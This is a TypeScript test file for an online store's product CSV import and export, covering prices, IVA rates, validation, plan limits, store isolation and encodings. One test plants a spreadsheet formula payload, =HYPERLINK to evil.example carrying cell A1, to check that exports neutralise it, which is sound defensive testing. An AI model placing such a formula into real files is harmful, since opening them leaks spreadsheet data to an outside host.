import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { callApi } from '../../../tests/support/forms.ts';
import { createTestApp, type TestApp } from '../../../tests/support/test-app.ts';
import type { StoreScope } from '#server/tenancy/store-scope.ts';
import { CSV_COLUMNS } from './csv-columns.ts';
import { exportCatalog } from './product-csv-export.service.ts';
import { applyImport, previewImport } from './product-csv.service.ts';
import { readFile } from './csv-read.ts';
import { csvLines, decimalToInteger, integerToDecimal, neutraliseCell, restoreCell } from './csv-values.ts';
import { stringify } from 'csv-stringify/sync';
import { FreeSlugs } from '#common/free-slug.ts';
import { csvFixtures } from './product-csv.fixtures.ts';
import { translator } from '#common/i18n/all-languages.ts';

// The catalog as CSV (issue 11 §9) on the suite's database, with the store guard on: export,
// preview, all-or-nothing import, per-row problems, the plan limit and store isolation, through the
// service and through the API (needs `npm run build` first).
let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.dispose());

const { storeWithCatalog, headerOf, lines } = csvFixtures(() => t);
const productsOf = (scope: StoreScope) => t.db.selectFrom('product').select(['id', 'name', 'slug', 'sku', 'priceCents', 'content']).where('storeId', '=', scope.storeId).orderBy('id').execute();

describe('exact decimals', () => {
  it('reads money and percentages into integers without floats, and writes them back', () => {
    expect(decimalToInteger('19.99', 2)).toBe(1999);
    expect(decimalToInteger('0,1', 2)).toBe(10);
    expect(decimalToInteger('1.005', 2)).toBeNull();
    expect(decimalToInteger('12', 2)).toBe(1200);
    expect(decimalToInteger('1e3', 2)).toBeNull();
    expect(integerToDecimal(1999, 2)).toBe('19.99');
    expect(integerToDecimal(1050, 2)).toBe('10.5');
    expect(integerToDecimal(5, 2)).toBe('0.05');
    expect(integerToDecimal(1500, 2)).toBe('15');
  });
});

describe('writing CSV lines', () => {
  it('writes exactly what csv-stringify writes: quotes only around a quote, comma or line break, doubled inside', () => {
    const cells = ['', 'plain', ' spaced ', 'a"b', '""', 'c,d', 'e\nf', 'g\rh', 'i\r\nj', '=1+1', "'=1", 'ñandú; €', '\t', ',', '"'];
    const lines = [cells, [...cells].reverse(), ['only'], ['', ''], CSV_COLUMNS];
    expect(csvLines(lines)).toBe(stringify(lines));
    expect(csvLines([['a"b', 'x,y']])).toBe('"a""b","x,y"\n');
  });
});

describe('the catalog CSV', () => {
  it('exports every product with its variants below it, and importing the export changes nothing', async () => {
    const { scope } = await storeWithCatalog('a-');
    const text = await exportCatalog(t.deps, scope);
    const rows = lines(text);
    expect(rows[0]).toBe('record,product_slug,variant_id,name,sku,code,description,category,subcategory,brand,color,size,price,discount,tax,stock,weight_grams,unit,type,priority,keywords,featured,enabled,content');
    expect(rows[1]).toMatch(/^product,camiseta,,"Camiseta ""Quito"", algodón",CAM-1,,,a-ropa,,,,,19.99,10.5,15,4,180,standard,piece,0,,0,1,"<p>Suave,$/);
    expect(rows[3]).toMatch(/^variant,camiseta,\d+,Rojo M,CAM-1-RM,,,,,,a-rojo,a-m,19.99,,,3,/);
    expect(rows.filter((row) => row.startsWith('variant,'))).toHaveLength(2);

    const preview = await previewImport(t.deps, scope, text);
    expect(preview).toEqual({ products: { create: 0, update: 0, unchanged: 2 }, variants: { create: 0, update: 0, unchanged: 2 }, problems: [], applied: false, encoding: 'utf-8', duplicates: [], duplicateCount: 0 });
    const applied = await applyImport(t.deps, scope, text);
    expect(applied.applied).toBe(true);
    expect(await exportCatalog(t.deps, scope)).toBe(text);
  });

  it('updates a changed price exactly, creates new products and variants, and derives free slugs', async () => {
    const { scope } = await storeWithCatalog('b-');
    const text = (await exportCatalog(t.deps, scope)).replace('CAM-1-RM,,,,,,b-rojo,b-m,19.99', 'CAM-1-RM,,,,,,b-rojo,b-m,21.05');
    const added = [
      'product,,,Taza,,,,b-hogar,,,,,"7,50",,,10,,,,,,1,1,',
      'variant,taza-2,,Azul,,,,,,,,,7.50,,,2,,,,,,,,',
    ].join('\n');
    const file = `${text.trimEnd()}\n${added}\n`;
    // a second "Taza" is a likely duplicate: listed, and left out (with its new variant) until confirmed
    expect(await previewImport(t.deps, scope, file)).toMatchObject({ products: { create: 0, update: 0, unchanged: 2 }, variants: { create: 0, update: 1, unchanged: 1 }, problems: [], duplicates: [{ line: 7, name: 'Taza' }] });
    expect(await previewImport(t.deps, scope, file, { createDuplicates: true })).toMatchObject({ products: { create: 1, update: 0, unchanged: 2 }, variants: { create: 1, update: 1, unchanged: 1 }, problems: [] });
    expect((await applyImport(t.deps, scope, file, { createDuplicates: true })).applied).toBe(true);

    const variant = await t.db.selectFrom('variant').select('priceCents').where('storeId', '=', scope.storeId).where('sku', '=', 'CAM-1-RM').executeTakeFirstOrThrow();
    expect(variant.priceCents).toBe(2105);
    // "Taza" exists, so the new one is taza-2, and its variant found it by that slug
    const taza = await t.db.selectFrom('product').select(['id', 'priceCents', 'featured', 'ivaCode']).where('storeId', '=', scope.storeId).where('slug', '=', 'taza-2').executeTakeFirstOrThrow();
    // its tax left blank: a new product starts at the general rate, 15 % (SRI's code 4)
    expect(taza).toMatchObject({ priceCents: 750, featured: 1, ivaCode: '4' });
    const variants = await t.db.selectFrom('variant').select(['name', 'priceCents']).where('storeId', '=', scope.storeId).where('productId', '=', taza.id).execute();
    expect(variants).toEqual([{ name: 'Azul', priceCents: 750 }]);
  });

  it('reads a semicolon-separated file with decimal commas, as a Spanish spreadsheet saves it', async () => {
    const { scope } = await storeWithCatalog('c-');
    const text = (await exportCatalog(t.deps, scope)).replace(/^\uFEFF/, '');
    const header = lines(text)[0]!.replaceAll(',', ';');
    const file = `${header}\nproduct;;;Gorra;;;;c-ropa;c-camisetas;c-andina;;;12,40;;5,00;5;;;;;;0;1;\n`;
    expect(await applyImport(t.deps, scope, file)).toMatchObject({ applied: true, products: { create: 1 } });
    const gorra = await t.db.selectFrom('product').select(['priceCents', 'ivaCode', 'subcategoryId', 'brandId']).where('storeId', '=', scope.storeId).where('slug', '=', 'gorra').executeTakeFirstOrThrow();
    expect(gorra.priceCents).toBe(1240);
    expect(gorra.ivaCode).toBe('5');
    expect(gorra.subcategoryId).not.toBeNull();
  });

  it('reads the IVA as a rate or its word, exports it as it reads it back, and refuses a rate not in force (decision 087)', async () => {
    const { scope } = await storeWithCatalog('i-');
    const header = lines((await exportCatalog(t.deps, scope)).replace(/^\uFEFF/, ''))[0]!;
    const row = (cells: Partial<Record<(typeof CSV_COLUMNS)[number], string>>) => CSV_COLUMNS.map((column) => cells[column] ?? '').join(',');
    const product = (name: string, tax: string) => row({ record: 'product', name, category: 'i-ropa', price: '8', stock: '1', tax });
    const file = [
      header,
      product('Cemento', '5'),
      product('Libro', 'exento'),
      product('Asesoría', 'No objeto'),
      product('Pan', '0 %'),
      product('Lámpara', '15,00'),
      row({ record: 'variant', product_slug: 'cemento', name: 'Saco 50 kg', price: '9', stock: '1', tax: '15' }),
      row({ record: 'variant', product_slug: 'cemento', name: 'Saco 25 kg', price: '5', stock: '1' }),
    ].join('\n');
    expect(await applyImport(t.deps, scope, `${file}\n`)).toMatchObject({ applied: true, problems: [] });
    const codes = await t.db.selectFrom('product').select(['slug', 'ivaCode']).where('storeId', '=', scope.storeId).where('slug', 'in', ['cemento', 'libro', 'asesoria', 'pan', 'lampara']).orderBy('slug').execute();
    expect(codes).toEqual([
      { slug: 'asesoria', ivaCode: '6' }, { slug: 'cemento', ivaCode: '5' }, { slug: 'lampara', ivaCode: '4' }, { slug: 'libro', ivaCode: '7' }, { slug: 'pan', ivaCode: '0' },
    ]);
    const variants = await t.db.selectFrom('variant').select(['name', 'ivaCode']).where('storeId', '=', scope.storeId).where('name', 'like', 'Saco%').orderBy('name').execute();
    expect(variants, "a variant's blank tax is its product's (null)").toEqual([{ name: 'Saco 25 kg', ivaCode: null }, { name: 'Saco 50 kg', ivaCode: '4' }]);

    // The export writes what the import reads back: a round trip changes nothing.
    const exported = await exportCatalog(t.deps, scope);
    const taxOf = (name: string) => lines(exported.replace(/^\uFEFF/, '')).map((line) => line.split(',')).find((cells) => cells[3] === name)?.[CSV_COLUMNS.indexOf('tax')];
    expect(['Cemento', 'Libro', 'Asesoría', 'Pan', 'Lámpara', 'Saco 50 kg', 'Saco 25 kg'].map(taxOf)).toEqual(['5', 'exento', 'no objeto', '0', '15', '15', '']);
    expect(await previewImport(t.deps, scope, exported)).toMatchObject({ problems: [], products: { create: 0, update: 0 }, variants: { create: 0, update: 0 } });
    // A product's tax left blank keeps its IVA.
    await applyImport(t.deps, scope, `${header}\n${row({ record: 'product', product_slug: 'cemento', name: 'Cemento', category: 'i-ropa', price: '8', stock: '1' })}\n`);
    expect((await t.db.selectFrom('product').select('ivaCode').where('storeId', '=', scope.storeId).where('slug', '=', 'cemento').executeTakeFirstOrThrow()).ivaCode).toBe('5');

    // 12 % is no longer in force, 7 % and 14 % are not offered: refused, never rounded to a rate.
    const refused = await applyImport(t.deps, scope, [header, product('Viejo', '12'), product('Siete', '7'), product('Catorce', '14'), product('Nada', 'gratis')].join('\n'));
    expect(refused.applied).toBe(false);
    expect(refused.problems.map((problem) => [problem.line, problem.column, problem.message, problem.values])).toEqual([
      [2, 'tax', 'productCsv.ivaRate', { value: '12' }],
      [3, 'tax', 'productCsv.ivaRate', { value: '7' }],
      [4, 'tax', 'productCsv.ivaRate', { value: '14' }],
      [5, 'tax', 'productCsv.ivaRate', { value: 'gratis' }],
    ]);
    expect(translator('es')('productCsv.ivaRate', { value: '12' })).toBe('La tarifa de IVA «12» no está vigente: escribe 15, 5, 0, exento o no objeto');
    expect(translator('en')('productCsv.ivaRate', { value: '12' })).toContain('“12” is not in force');
    expect(await t.db.selectFrom('product').select('id').where('storeId', '=', scope.storeId).where('name', '=', 'Viejo').executeTakeFirst()).toBeUndefined();
  });

  it('lists every problem with its line and column, and imports nothing while there is one', async () => {
    const { scope } = await storeWithCatalog('d-');
    const text = (await exportCatalog(t.deps, scope)).replace(/^\uFEFF/, '');
    const [header] = lines(text);
    const file = [
      header,
      'product,taza,,Taza,,,,d-ropa,,,,,9,,,,,,,,,1,1,', // line 2: a valid change, which must not be applied
      'product,,,Sin precio,,,,d-ropa,,,,,,,,,,,,,,,,', // line 3: price missing
      'product,,,Mal,,,,nada,,,,,1.999,,150,,,caja,,,,talvez,,', // line 4: category, price, tax, unit, featured
      'variant,no-existe,,Suelta,,,,,,,,,1,,,,,,,,,,,', // line 5: unknown product
      'algo,,,,,,,,,,,,,,,,,,,,,,,', // line 6: unknown record
    ].join('\n');
    const summary = await applyImport(t.deps, scope, file);
    expect(summary.applied).toBe(false);
    expect(summary.problems.map((problem) => [problem.line, problem.column, problem.message])).toEqual([
      [3, 'price', 'validation.required'],
      [4, 'category', 'productCsv.unknownSlug'],
      [4, 'unit', 'productCsv.oneOf'],
      [4, 'price', 'productCsv.money'],
      [4, 'tax', 'productCsv.ivaRate'],
      [4, 'featured', 'productCsv.flag'],
      [5, 'product_slug', 'productCsv.unknownProduct'],
      [6, 'record', 'productCsv.record'],
    ]);
    expect(summary.products.update, 'the valid line was read as a change').toBe(1);
    const price = await t.db.selectFrom('product').select('priceCents').where('storeId', '=', scope.storeId).where('slug', '=', 'taza').executeTakeFirstOrThrow();
    expect(price.priceCents, 'all or nothing: the valid line was not applied either').toBe(500);
  });

  it('refuses a file without the columns, an empty one, and one that is not CSV', async () => {
    const { scope } = await storeWithCatalog('e-');
    expect((await previewImport(t.deps, scope, 'name,price\nTaza,5\n')).problems).toEqual([{ line: 1, column: '', message: 'productCsv.missingColumns', values: { columns: expect.stringContaining('record, product_slug') } }]);
    expect((await previewImport(t.deps, scope, '')).problems).toEqual([{ line: 1, column: '', message: 'productCsv.empty' }]);
    expect((await previewImport(t.deps, scope, 'record,name\n"product,Taza\n')).problems[0]?.message).toBe('productCsv.unreadable');
  });

  it('keeps within the plan: creating past its product limit is refused, naming the limit', async () => {
    const { scope } = await storeWithCatalog('f-');
    const plan = await t.db.selectFrom('store').select('planId').where('id', '=', scope.storeId).executeTakeFirstOrThrow();
    await t.db.updateTable('plan').set({ maxProducts: 3 }).where('id', '=', plan.planId!).execute();
    try {
      const header = lines(await exportCatalog(t.deps, scope))[0]!.replace(/^\uFEFF/, '');
      const file = `${header}\nproduct,,,Uno,,,,f-ropa,,,,,1,,,,,,,,,,,\nproduct,,,Dos,,,,f-ropa,,,,,1,,,,,,,,,,,\n`;
      const summary = await applyImport(t.deps, scope, file);
      expect(summary.applied).toBe(false);
      expect(summary.problems).toEqual([{ line: 3, column: '', message: 'productCsv.overLimit', values: { limit: 3 } }]);
    } finally {
      await t.db.updateTable('plan').set({ maxProducts: 100 }).where('id', '=', plan.planId!).execute();
    }
  });

  it('stops reading a file at its first product line past the plan, naming the limit (issue 36 §10)', async () => {
    const { scope } = await storeWithCatalog('fp-');
    await ownPlan(scope, 3);
    const header = lines(await exportCatalog(t.deps, scope))[0]!.replace(/^\uFEFF/, '');
    // 3,000 product lines (without a category: each a problem if it were read), the plan takes 3.
    const body = `${header}\n${Array.from({ length: 3000 }, (_, n) => `product,,,Gorra ${n},,,,,,,,,1,,,,,,,,,,,`).join('\n')}\n`;
    const file = await readFile(body, { maxProducts: 3 });
    expect(file.problems).toEqual([{ line: 5, column: '', message: 'productCsv.overLimit', values: { limit: 3 } }]);
    expect(file.records, 'parsed no further than the first line past the plan').toBe(4);
    // The service says so, and nothing else: the rest of the file was never read.
    expect((await previewImport(t.deps, scope, body)).problems).toEqual([{ line: 5, column: '', message: 'productCsv.overLimit', values: { limit: 3 } }]);
    // Variant lines are not products: a plan of 3 reads a product with many variants whole.
    const variants = `${header}\nproduct,,,Gorra,,,,fp-ropa,,,,,1,,,,,,,,,,,\n${Array.from({ length: 50 }, (_, n) => `variant,gorra,,Talla ${n},,,,,,,,,1,,,,,,,,,,,`).join('\n')}\n`;
    expect((await readFile(variants, { maxProducts: 3 })).records).toBe(51);
  });

  it('never reaches another store: its category slugs and variant ids are unknown here', async () => {
    const a = await storeWithCatalog('g-');
    const b = await storeWithCatalog('h-');
    const theirs = await t.db.selectFrom('variant').select('id').where('storeId', '=', b.scope.storeId).executeTakeFirstOrThrow();
    const header = lines(await exportCatalog(t.deps, a.scope))[0]!.replace(/^\uFEFF/, '');
    const file = `${header}\nproduct,,,Intruso,,,,h-ropa,,,,,1,,,,,,,,,,,\nvariant,camiseta,${theirs.id},Robada,,,,,,,,,1,,,,,,,,,,,\n`;
    const summary = await applyImport(t.deps, a.scope, file);
    expect(summary.problems.map((problem) => [problem.line, problem.message])).toEqual([[2, 'productCsv.unknownSlug'], [3, 'productCsv.unknownVariant']]);
    const stolen = await t.db.selectFrom('variant').select('name').where('storeId', '=', b.scope.storeId).where('id', '=', theirs.id).executeTakeFirstOrThrow();
    expect(stolen.name).not.toBe('Robada');
  });
});

describe('the catalog CSV API', () => {
  it('exports as a file, previews and imports, with problems in the caller’s language', async () => {
    const { store } = await storeWithCatalog('i-');
    const exported = await callApi(t.app, 'GET', '/api/v1/products/export', store.owner.cookie);
    expect(exported.statusCode).toBe(200);
    expect(exported.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(exported.headers['content-disposition']).toContain(`productos-${store.slug}.csv`);
    expect(exported.headers['cache-control']).toBe('no-store');

    const post = (body: string, apply: string, lang = 'es') =>
      t.app.inject({ method: 'POST', url: `/api/v1/products/import?apply=${apply}`, payload: body, headers: { cookie: `${store.owner.cookie}; lang=${lang}`, 'content-type': 'text/csv' } });
    const same = await post(exported.body, '1');
    expect(same.statusCode).toBe(200);
    expect(same.json()).toMatchObject({ applied: true, products: { create: 0, update: 0, unchanged: 2 } });

    const bad = `${lines(exported.body)[0]!.replace(/^\uFEFF/, '')}\nproduct,,,X,,,,i-ropa,,,,,gratis,,,,,,,,,,,\n`;
    const es = await post(bad, '1');
    expect(es.statusCode).toBe(422);
    expect(es.json().problems).toEqual([{ line: 2, column: 'price', message: 'Escribe un importe sin separador de miles y con hasta dos decimales, por ejemplo 12 o 12,50', key: 'productCsv.money' }]);
    const en = await post(bad, '0', 'en');
    expect(en.statusCode).toBe(200);
    expect(en.json()).toMatchObject({ applied: false, problems: [{ line: 2, column: 'price', message: 'Write an amount without thousands separators and with at most two decimals, for example 12 or 12.50', key: 'productCsv.money' }] });

    // neither a JSON body nor a store-less caller gets anywhere
    const json = await t.app.inject({ method: 'POST', url: '/api/v1/products/import', payload: { a: 1 }, headers: { cookie: store.owner.cookie } });
    expect(json.statusCode).toBe(415);
    const anonymous = await t.app.inject({ method: 'GET', url: '/api/v1/products/export' });
    expect(anonymous.statusCode).toBe(401);
  });
});

/** Gives the store a plan of its own with this product limit (the default plan is every test store's). */
async function ownPlan(scope: StoreScope, maxProducts: number) {
  const stamp = new Date().toISOString();
  const [plan] = await t.db.insertInto('plan').values({ name: `CSV ${scope.storeId}-${maxProducts}`, priceCents: 0, maxProducts, maxBanners: 1, maxPages: 1, features: '[]', isDefault: 0, createdAt: stamp, updatedAt: stamp }).returning('id').execute();
  await t.db.updateTable('store').set({ planId: plan!.id }).where('id', '=', scope.storeId).execute();
}


describe('issue 21: a CSV import cannot stall the server', () => {
  it('gives free slugs with a counter per base: n rows of one name cost about n tries, not n²/2', () => {
    const slugs = new FreeSlugs(['taza', 'taza-2', 'taza-5']);
    expect([slugs.take('taza'), slugs.take('taza'), slugs.take('taza'), slugs.take('vaso')]).toEqual(['taza-3', 'taza-4', 'taza-6', 'vaso']);
    const many = new FreeSlugs(['x']);
    for (let n = 0; n < 20_000; n++) many.take('x');
    // the loop of today's service tried 2, 3, … again for every row: ~200 million tries here
    expect(many.tries).toBeLessThanOrEqual(2 * 20_000 + 1);
  });

  it('names many rows of one name linearly, after the slugs the store already has', async () => {
    const { scope } = await storeWithCatalog('s-');
    await t.db.updateTable('product').set({ slug: 'taza-3' }).where('storeId', '=', scope.storeId).where('slug', '=', 'camiseta').execute();
    const header = await headerOf(scope);
    const rows = Array.from({ length: 5 }, (_, n) => `product,,,Vaso ${n},,,,s-ropa,,,,,1,,,,,,,,,,,`);
    const file = `${header}\n${rows.join('\n')}\nproduct,,,Taza,,,,s-ropa,,,,,1,,,,,,,,,,,\nproduct,,,Taza,,,,s-ropa,,,,,1,,,,,,,,,,,\n`;
    expect((await applyImport(t.deps, scope, file, { createDuplicates: true })).applied).toBe(true);
    expect((await productsOf(scope)).map((product) => product.slug).filter((slug) => slug.startsWith('taza'))).toEqual(['taza-3', 'taza', 'taza-2', 'taza-4']);
  });

  it('refuses a file bigger than the plan can use before reading it: 413 in the page’s language', async () => {
    const { store, scope } = await storeWithCatalog('t-');
    await ownPlan(scope, 3); // 3 products: the least any plan takes, 1 MB
    const header = await headerOf(scope);
    const big = `${header}\n${'product,,,Relleno,,,,t-ropa,,,,,1,,,,,,,,,,,\n'.repeat(30_000)}`; // ~1.4 MB
    expect(Buffer.byteLength(big)).toBeGreaterThan(1024 * 1024);
    await expect(previewImport(t.deps, scope, big)).rejects.toMatchObject({ status: 413, code: 'productCsv.tooBigForPlan' });
    const post = (lang: string) =>
      t.app.inject({ method: 'POST', url: '/api/v1/products/import?apply=0', payload: big, headers: { cookie: `${store.owner.cookie}; lang=${lang}`, 'content-type': 'text/csv' } });
    const es = await post('es');
    expect(es.statusCode).toBe(413);
    expect(es.json()).toEqual({ error: 'productCsv.tooBigForPlan', message: 'El archivo es más grande de lo que tu plan puede importar: hasta 1 MB' });
    expect((await post('en')).json().message).toBe('The file is bigger than your plan can import: up to 1 MB');
    // a file within the plan is read as before
    const small = await t.app.inject({ method: 'POST', url: '/api/v1/products/import?apply=0', payload: `${header}\nproduct,,,Uno,,,,t-ropa,,,,,1,,,,,,,,,,,\n`, headers: { cookie: store.owner.cookie, 'content-type': 'text/csv' } });
    expect(small.statusCode).toBe(200);
    expect(small.json()).toMatchObject({ products: { create: 1 }, problems: [] });
  });
});

describe('issue 21: what goes in is what the form allows, and what comes out runs nowhere', () => {
  it('neutralises cells a spreadsheet would run, and reads them back unchanged', async () => {
    expect(['=1+1', '+1', '-2', '@SUM(A1)', '\tx', '\rx', "'=x", 'hola', "'hola", '1-2'].map(neutraliseCell)).toEqual(["'=1+1", "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "''=x", 'hola', "'hola", '1-2']);
    for (const text of ['=1+1', "'=x", "''+x", "'hola", '-']) expect(restoreCell(neutraliseCell(text))).toBe(text);

    const { scope } = await storeWithCatalog('u-');
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    await t.db.updateTable('product').set({ name: evil, sku: '+SKU-1', description: '-bajo', keywords: '@arroba', content: "'=ya citado" }).where('storeId', '=', scope.storeId).where('slug', '=', 'taza').execute();
    const text = await exportCatalog(t.deps, scope);
    const taza = lines(text).find((row) => row.startsWith('product,taza,'))!;
    expect(taza).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(taza).toContain(",'+SKU-1,");
    expect(taza).toContain(",'-bajo,");
    expect(taza).toContain(",'@arroba,");
    expect(taza).toContain(",''=ya citado");
    expect(lines(text).every((row) => !/(^|,)[=+@]/.test(row.replace(/"[^"]*"/g, '""')))).toBe(true);
    // the import reads the quotes off: nothing changes
    expect(await previewImport(t.deps, scope, text)).toMatchObject({ products: { create: 0, update: 0, unchanged: 2 }, problems: [] });
    expect((await applyImport(t.deps, scope, text)).applied).toBe(true);
    expect((await productsOf(scope)).find((product) => product.slug === 'taza')).toMatchObject({ name: evil, sku: '+SKU-1', content: "'=ya citado" });
  });

  it('applies the form’s schema and limits to every row, each failure a problem of its column', async () => {
    const { scope } = await storeWithCatalog('v-');
    const header = await headerOf(scope);
    const file = [
      header,
      `product,,,Largo,,,,v-ropa,,,,,1,,,,,,,,,,,"${'x'.repeat(20_001)}"`, // line 2: content over the form's 20,000
      `product,,,${'n'.repeat(161)},,,,v-ropa,,,,,1,,,,,,,,,,,`, // line 3: name over 160
      `product,Mala Direccion,,Mal,,,,v-ropa,,,,,1,,,,,,,,,,,`, // line 4: a slug the form refuses
      `product,,,Bien,${'s'.repeat(26)},,,v-ropa,,,,,1,,,,,,,,,,,`, // line 5: SKU over SRI's 25 (codigoPrincipal)
      `variant,camiseta,,${'v'.repeat(161)},,,,,,,,,1,,,,,,,,,,,`, // line 6: a variant's name over 160
    ].join('\n');
    const summary = await applyImport(t.deps, scope, file);
    expect(summary.applied).toBe(false);
    expect(summary.problems.map((problem) => [problem.line, problem.column, problem.message, problem.values])).toEqual([
      [2, 'content', 'productCsv.tooLong', { max: 20_000 }],
      [3, 'name', 'productCsv.tooLong', { max: 160 }],
      [4, 'product_slug', 'validation.slug', undefined],
      [5, 'sku', 'catalog.product.skuTooLong', undefined],
      [6, 'name', 'productCsv.tooLong', { max: 160 }],
    ]);
    // exactly at the limit is fine, as in the form
    const fine = `${header}\nproduct,,,Justo,${'s'.repeat(25)},,,v-ropa,,,,,1,,,,,,,,,,,"${'x'.repeat(20_000)}"\n`;
    expect((await applyImport(t.deps, scope, fine)).applied).toBe(true);
  });

  it('reads a Windows-1252 (Latin-1) file as such, and says so in the preview', async () => {
    const { store, scope } = await storeWithCatalog('w-');
    const header = await headerOf(scope);
    const latin1 = Buffer.from(`${header}\nproduct,,,Camión,,,,w-ropa,,,,,1,,,,,,,,,,,Señal €5\n`, 'latin1');
    latin1[latin1.length - 3] = 0x80; // "€" in Windows-1252, which Latin-1 lacks
    expect((await previewImport(t.deps, scope, latin1)).encoding).toBe('windows-1252');
    const post = (body: Buffer) => t.app.inject({ method: 'POST', url: '/api/v1/products/import?apply=1', payload: body, headers: { cookie: store.owner.cookie, 'content-type': 'text/csv' } });
    const answer = await post(latin1);
    expect(answer.statusCode).toBe(200);
    expect(answer.json()).toMatchObject({ applied: true, encoding: 'windows-1252', products: { create: 1 } });
    expect((await productsOf(scope)).find((product) => product.slug === 'camion')).toMatchObject({ name: 'Camión', content: 'Señal €5' });
    // the same text in UTF-8 (with or without a BOM) is read as UTF-8
    const utf8 = await post(Buffer.from(`\uFEFF${header}\nproduct,camion,,Camión,,,,w-ropa,,,,,1,,,,,,,,,,,Señal €5\n`, 'utf8'));
    expect(utf8.json()).toMatchObject({ applied: true, encoding: 'utf-8', products: { unchanged: 1 } });
  });
});

describe('issue 20 §4: importing the same file twice does not double the catalog', () => {
  it('updates the product or variant that has the row’s SKU when the row has no slug or id', async () => {
    const { scope } = await storeWithCatalog('x-');
    const header = await headerOf(scope);
    const file = `${header}\nproduct,,,Camiseta nueva,CAM-1,,,x-ropa,,,,,25,,,,,,,,,,,\nvariant,camiseta,,Rojo M,CAM-1-RM,,,,,,,,30,,,7,,,,,,,,\n`;
    expect(await previewImport(t.deps, scope, file)).toMatchObject({ products: { create: 0, update: 1 }, variants: { create: 0, update: 1 }, problems: [], duplicates: [] });
    expect((await applyImport(t.deps, scope, file)).applied).toBe(true);
    const products = await productsOf(scope);
    expect(products).toHaveLength(2);
    expect(products.find((product) => product.sku === 'CAM-1')).toMatchObject({ slug: 'camiseta', name: 'Camiseta nueva', priceCents: 2500 });
    const variants = await t.db.selectFrom('variant').select(['sku', 'priceCents', 'stock']).where('storeId', '=', scope.storeId).orderBy('id').execute();
    expect(variants).toEqual([{ sku: 'CAM-1-RM', priceCents: 3000, stock: 7 }, { sku: 'CAM-1-RL', priceCents: 2199, stock: 1 }]);
  });

  it('marks a second product of the same name as a likely duplicate, created only when confirmed', async () => {
    const { store, scope } = await storeWithCatalog('y-');
    const header = await headerOf(scope);
    const file = `${header}\n${['Vaso', 'Plato', 'Jarra'].map((name) => `product,,,${name},,,,y-ropa,,,,,1,,,,,,,,,,,`).join('\n')}\n`;
    expect((await applyImport(t.deps, scope, file)).applied).toBe(true);
    expect(await productsOf(scope)).toHaveLength(5);
    // the same file again: three likely duplicates, nothing created
    const again = await previewImport(t.deps, scope, file);
    expect(again).toMatchObject({ products: { create: 0 }, problems: [], duplicates: [{ line: 2, name: 'Vaso' }, { line: 3, name: 'Plato' }, { line: 4, name: 'Jarra' }] });
    expect((await applyImport(t.deps, scope, file)).applied).toBe(true);
    expect(await productsOf(scope)).toHaveLength(5);
    // a name twice in one file, any letter case: the second waits too
    expect((await previewImport(t.deps, scope, `${header}\nproduct,,,Olla,,,,y-ropa,,,,,1,,,,,,,,,,,\nproduct,,,OLLA ,,,,y-ropa,,,,,1,,,,,,,,,,,\n`)).duplicates).toEqual([{ line: 3, name: 'OLLA' }]);
    // confirmed through the API: created, with free slugs
    const post = (query: string) => t.app.inject({ method: 'POST', url: `/api/v1/products/import?${query}`, payload: file, headers: { cookie: store.owner.cookie, 'content-type': 'text/csv' } });
    expect((await post('apply=0')).json()).toMatchObject({ products: { create: 0 }, duplicates: [{ line: 2 }, { line: 3 }, { line: 4 }] });
    expect((await post('apply=1&duplicates=create')).json()).toMatchObject({ applied: true, products: { create: 3 } });
    expect((await productsOf(scope)).map((product) => product.slug).filter((slug) => slug.startsWith('vaso'))).toEqual(['vaso', 'vaso-2']);
  });

  it('keeps a SKU to one product or variant of the store', async () => {
    const { scope } = await storeWithCatalog('z-');
    const header = await headerOf(scope);
    const file = [
      header,
      'product,,,Gorra,CAM-1-RM,,,z-ropa,,,,,1,,,,,,,,,,,', // line 2: a variant's SKU
      'product,,,Bolso,B-1,,,z-ropa,,,,,1,,,,,,,,,,,', // line 3
      'product,,,Cinturón,B-1,,,z-ropa,,,,,1,,,,,,,,,,,', // line 4: the SKU of line 3
      'variant,taza,,Azul,CAM-1,,,,,,,,1,,,,,,,,,,,', // line 5: a product's SKU, on a new variant
    ].join('\n');
    const summary = await applyImport(t.deps, scope, file);
    expect(summary.applied).toBe(false);
    expect(summary.problems.map((problem) => [problem.line, problem.column, problem.message])).toEqual([
      [2, 'sku', 'validation.skuTaken'],
      [4, 'sku', 'productCsv.duplicateSku'],
      [5, 'sku', 'validation.skuTaken'],
    ]);
    // the database refuses a second one too (migration 2026-11-26-044)
    const taza = (await productsOf(scope)).find((product) => product.slug === 'taza')!;
    await expect(t.db.updateTable('product').set({ sku: 'CAM-1' }).where('id', '=', taza.id).execute()).rejects.toThrow();
  });

  it('lets two products, and two variants, swap their SKUs in one file, and a new product take a SKU given up', async () => {
    const { scope } = await storeWithCatalog('s-');
    await t.db.updateTable('product').set({ sku: 'TAZ-1' }).where('storeId', '=', scope.storeId).where('slug', '=', 'taza').execute();
    const [rm, rl] = await t.db.selectFrom('variant').select('id').where('storeId', '=', scope.storeId).orderBy('id').execute();
    const header = await headerOf(scope);
    const file = [
      header,
      'product,camiseta,,Camiseta,TAZ-1,,,s-ropa,,,,,19.99,,,,,,,,,,,',
      'product,taza,,Taza,CAM-2,,,s-ropa,,,,,5,,,,,,,,,,,',
      'product,gorra,,Gorra,CAM-1,,,s-ropa,,,,,8,,,,,,,,,,,', // a new product, with the SKU the first line gives up
      `variant,camiseta,${rm!.id},Rojo M,CAM-1-RL,,,,,,,,19.99,,,3,,,,,,,,`,
      `variant,camiseta,${rl!.id},Rojo L,CAM-1-RM,,,,,,,,21.99,,,1,,,,,,,,`,
    ].join('\n');
    expect((await previewImport(t.deps, scope, file)).problems).toEqual([]);
    expect((await applyImport(t.deps, scope, file)).applied).toBe(true);
    expect((await productsOf(scope)).map((product) => [product.slug, product.sku])).toEqual([['camiseta', 'TAZ-1'], ['taza', 'CAM-2'], ['gorra', 'CAM-1']]);
    const variants = await t.db.selectFrom('variant').select(['id', 'sku']).where('storeId', '=', scope.storeId).orderBy('id').execute();
    expect(variants).toEqual([{ id: rm!.id, sku: 'CAM-1-RL' }, { id: rl!.id, sku: 'CAM-1-RM' }]);
  });
});

// After an import of thousands of records the planner's statistics are taken again: with stale
// ones PostgreSQL read an export page of a grown store by sorting all of it (80 ms against 0.05).
